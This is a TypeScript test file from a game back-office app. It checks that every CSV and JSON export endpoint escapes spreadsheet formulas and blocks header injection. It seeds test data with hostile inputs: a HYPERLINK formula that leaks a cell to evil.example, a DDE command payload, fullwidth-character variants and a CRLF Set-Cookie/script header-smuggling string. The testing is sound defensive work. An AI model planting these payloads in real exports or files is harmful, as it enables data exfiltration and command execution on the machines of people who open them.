import { globSync, readdirSync, readFileSync } from "node:fs";
import { basename } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { auditEntries } from "#db/schema/audit.ts";
import { labelChangeParts, labelChangeSkips, labelChanges } from "#db/schema/labels.ts";
import { wordLists, wordTerms } from "#db/schema/moderation-rules.ts";
import { players } from "#db/schema/players.ts";
import { handleRejectsExport } from "#server/audiences/http.ts";
import { receiveAudience } from "#server/audiences/service/receive-audience.ts";
import { handleAuditExport } from "#server/audit/http.ts";
import { handleItemsExport } from "#server/items/http.ts";
import { handleCampaignExport } from "#server/mail/http.ts";
import { handleRecallExport } from "#server/mail/recalls/http.ts";
import { handleWordListExport } from "#server/moderation/lists/http.ts";
import { handleDecisionsExport } from "#server/moderation/log/http.ts";
import { handleLabelExport } from "#server/players/labels/changes/http.ts";
import { handlePlayerExport } from "#server/players/records/http.ts";
import type { RequestContext } from "#server/trpc/context.ts";
import { ctxOf, gameCtxOf, requestContextOf } from "#tests/support/context.ts";
import { makeGame, makeStaff } from "#tests/support/factories.ts";
import { makeRecall } from "#tests/support/ledger.ts";
import { makeItem } from "#tests/support/mail.ts";
import { createTestDatabase, type TestDatabase } from "#tests/support/postgres.ts";
import { makeSentRun } from "#tests/support/recalls.ts";
import { decisionOf, storeDecisions } from "#tests/support/stored-decisions.ts";

/** What a spreadsheet runs, and what a header or a line would end with. */
const formulas = [
  `=HYPERLINK("https://evil.example?"&A1,"click")`,
  "=cmd|'/c calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1)",
  "\t=1",
  "\r\n=1+1",
  "＝1+1",
  "a,=1+1",
  'b"\r\n=1+1,"',
  "x;=1+1",
];
const header = "a\r\nSet-Cookie: stolen=1\r\n\r\n<script>alert(1)</script>";

let database: TestDatabase;
let slug: string;
let ids: { audience: string; campaign: string; recall: string; change: string; words: string };
let admin: RequestContext;

beforeAll(async () => {
  database = await createTestDatabase();
  const { db } = database;
  const game = await makeGame(db, { name: `${formulas[0]}${header}` });
  slug = game.slug;
  const person = await makeStaff(db, { name: formulas[1] ?? "", role: "admin", gameId: game.id });
  admin = requestContextOf(db, {
    staff: { ...person, email: formulas[2] ?? "" },
    roles: new Map([[game.id, "admin"]]),
  });
  const ctx = gameCtxOf(ctxOf(db), game);
  const names = { ko: formulas[0] ?? "", en: formulas[4] ?? "" };
  for (const [at, disabledReason] of formulas.entries()) {
    await makeItem(db, game.id, { code: `item.${at}`, names, disabledAt: new Date(), disabledReason });
    await db.insert(auditEntries).values({
      gameId: game.id,
      actorKind: "staff",
      actorName: disabledReason,
      role: disabledReason,
      action: "campaign.create",
      targetKind: "campaign",
      targetId: disabledReason,
      targetName: disabledReason,
      reason: disabledReason,
      requestId: disabledReason,
      correlationId: disabledReason,
      address: disabledReason,
      after: { name: disabledReason },
    });
  }
  const lines = ["player_1", ...formulas.map((text) => `${text.replaceAll(/[\r\n]/g, " ")} ${"x".repeat(40)}`)].join(
    "\n",
  );
  const bytes = (async function* () {
    yield Buffer.from(lines);
  })();
  const audience = await receiveAudience(ctx, { name: header, source: "pasted", format: "lines", bytes });
  const accounts = ["=1+1", "@evil", "+evil", "-evil"];
  const run = await makeSentRun(db, game, { chunks: [{ ids: accounts, failed: ["=1+1"] }] });
  const recall = await makeRecall(db, { gameId: game.id, runId: run.runId, total: 3 }, [
    { position: 0, recipients: 3, failed: { "@evil": { outcome: "refused", code: 1 } } },
  ]);
  const wanted = { add: formulas.slice(0, 3), remove: formulas.slice(3, 6), set: {}, unset: [] };
  const [change] = await db
    .insert(labelChanges)
    .values({
      gameId: game.id,
      name: header,
      wanted,
      sourceKind: "pasted",
      source: { kind: "pasted" },
      requestedByName: header,
    })
    .returning({ id: labelChanges.id });
  const changeId = change?.id ?? "";
  await db.insert(labelChangeParts).values({
    changeId,
    position: 0,
    edits: accounts.map((account, at) => ({
      ...wanted,
      add: [formulas[at] ?? ""],
      set: { "=name": "=value" },
      account,
      was: { "=name": formulas[at] ?? "" },
    })),
  });
  await db
    .insert(labelChangeSkips)
    .values(formulas.map((account) => ({ changeId, account, reason: "unknown_account" as const })));
  await db.insert(players).values({ gameId: game.id, id: "player_1", nickname: formulas[0] ?? "" });
  await storeDecisions(
    db,
    formulas.map((text) => decisionOf(game.id, { text, sender: text, recipient: text, groupId: text, platform: text })),
  );
  const list = { gameId: game.id, language: "en", origin: "own", updatedByName: header } as const;
  const [words] = await db
    .insert(wordLists)
    .values({ ...list, name: "words" })
    .returning({ id: wordLists.id });
  const listId = words?.id ?? "";
  const kinds = { category: "spam", severity: 1, kind: "word" } as const;
  await db.insert(wordTerms).values(
    formulas.map((text) => ({
      ...{ gameId: game.id, listId, updatedByName: "t", ...kinds },
      ...{ text, spellings: [text, `x${text}`], note: text },
    })),
  );
  ids = { audience: audience.id, campaign: run.campaignId, recall: recall.id, change: changeId, words: listId };
});
afterAll(() => database.drop());

type Door = (query: string) => Promise<Response>;
const door =
  (handle: (request: Request, context: RequestContext) => Promise<Response>): Door =>
  (query) =>
    handle(new Request(`http://localhost/x?game=${slug}&${query}`), admin);

/** Every folder below `app/api/export` that answers rows, with what a visitor of it asks for. */
const doors: Readonly<Record<string, () => Promise<Response>>> = {
  "audience-rejects": () => door(handleRejectsExport)(`id=${ids.audience}`),
  audit: () => door(handleAuditExport)("format=csv"),
  campaign: () => door(handleCampaignExport)(`id=${ids.campaign}&run=all&format=csv`),
  decisions: () => door(handleDecisionsExport)("format=csv"),
  items: () => door(handleItemsExport)("format=csv"),
  "label-change": () => door(handleLabelExport)(`id=${ids.change}`),
  recall: () => door(handleRecallExport)(`id=${ids.recall}`),
  "word-list": () => door(handleWordListExport)(`id=${ids.words}`),
};

/** Those that answer one JSON object: there are no cells, and what a program reads is to stand in it as it is. */
const objectDoors: Readonly<Record<string, () => Promise<Response>>> = {
  player: () => door(handlePlayerExport)("account=player_1"),
};
const allDoors = { ...doors, ...objectDoors };

test("every export door is in this list", () => {
  expect(Object.keys(allDoors).sort()).toEqual(readdirSync("app/api/export").sort());
});

describe.each(Object.keys(allDoors))("the export %s", (name) => {
  // An account stands in the name of its file: letters of both cases and `_`, and nothing that ends a header.
  const plainName =
    name in objectDoors
      ? /^attachment; filename="[A-Za-z0-9_.-]+\.json"$/
      : /^attachment; filename="[a-z0-9.-]+\.(csv|ndjson|json)"$/;
  const open = () => allDoors[name]?.() ?? Promise.reject(new Error("no door"));

  test("is a download under a plain name that no cache keeps and no browser guesses at", async () => {
    const { status, headers } = await open();
    expect(status).toBe(200);
    expect(headers.get("content-disposition")).toMatch(plainName);
    expect(headers.get("content-type")).toMatch(/^(text\/csv|application\/(x-ndjson|json)); charset=utf-8$/);
    expect(headers.get("cache-control")).toBe("private, no-store");
    expect(headers.get("x-content-type-options")).toBe("nosniff");
    expect(headers.getSetCookie()).toEqual([]);
    expect([...headers].map(([, value]) => value).join()).not.toMatch(/stolen|script|[\r\n]/);
  });

  test.runIf(name in doors)(
    "holds nothing that a spreadsheet runs, in any cell, and no line that is not one of its rows",
    async () => {
      const text = (await (await open()).text()).replace(/^\uFEFF/, "");
      const rows: string[][] = parse(text, { record_delimiter: "\r\n" });
      const [columns = [], ...records] = rows;
      expect(records.length).toBeGreaterThan(2);
      for (const record of records) {
        expect(record).toHaveLength(columns.length);
        for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
      }
      // The spreadsheet of another country ends fields at semicolons, and heeds quotes only where one begins.
      for (const cell of text.split(/[;\t\r\n]/)) expect(cell).not.toMatch(/^"?[=+\-@＝＋－＠]/);
      expect(text).toMatch(/'[=@+]/);
    },
  );
});

test.each(Object.keys(objectDoors))(
  "the export %s is one JSON object under a JSON type, with formulas as they are",
  async (name) => {
    const answer = (await objectDoors[name]?.()) ?? Response.error();
    expect(answer.headers.get("content-type")).toBe("application/json; charset=utf-8");
    expect(answer.headers.get("content-disposition")).toMatch(/\.json"$/);
    const text = await answer.text();
    expect(text.trimStart()).toMatch(/^\{/);
    expect(JSON.parse(text)).toMatchObject({ profile: { nickname: formulas[0] } });
  },
);

test("nobody writes CSV by hand: every service that yields rows does so through `csvLine`", () => {
  const ofObjects = Object.keys(objectDoors).map((name) => `export-${name}.ts`);
  const all = globSync("server/**/service/export-*.ts");
  const files = all.filter((file) => !ofObjects.includes(basename(file)));
  expect(all.length - files.length).toBe(ofObjects.length);
  expect(files.length).toBeGreaterThanOrEqual(Object.keys(doors).length);
  for (const file of files) {
    const text = readFileSync(file, "utf8");
    expect(text, file).toContain('from "#lib/csv.ts"');
    expect(text, file).not.toMatch(/\.join\(\s*["'`],["'`]/);
  }
});
